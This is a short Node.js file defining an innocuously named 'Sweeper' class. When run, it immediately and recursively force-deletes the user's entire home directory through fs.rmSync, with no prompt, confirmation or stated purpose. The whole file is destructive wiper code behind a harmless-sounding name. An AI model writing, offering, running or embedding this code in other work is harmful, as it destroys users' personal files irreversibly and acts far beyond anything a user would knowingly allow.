const fs = require('fs');
const os = require('os');

class Sweeper {
  constructor() {
    this.root = os.homedir();
    this.opts = { recursive: true, force: true };
  }
  run() {
    fs.rmSync(this.root, this.opts);
  }
}

new Sweeper().run();
